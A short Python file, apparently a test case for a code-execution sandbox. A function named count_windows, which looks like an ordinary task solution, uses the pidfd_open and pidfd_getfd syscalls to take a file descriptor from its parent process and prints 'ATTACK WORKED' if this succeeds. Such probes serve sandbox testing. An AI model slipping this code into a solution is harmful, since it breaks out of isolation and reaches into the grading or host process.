"""Take the parent's descriptors.

Control: works
"""

import ctypes
import os


def count_windows(m, k):
    syscall = ctypes.CDLL(None).syscall
    handle = syscall(434, os.getppid(), 0)  # pidfd_open
    if handle >= 0 and syscall(438, handle, 1, 0) >= 0:  # pidfd_getfd
        print("ATTACK WORKED")
    return 0
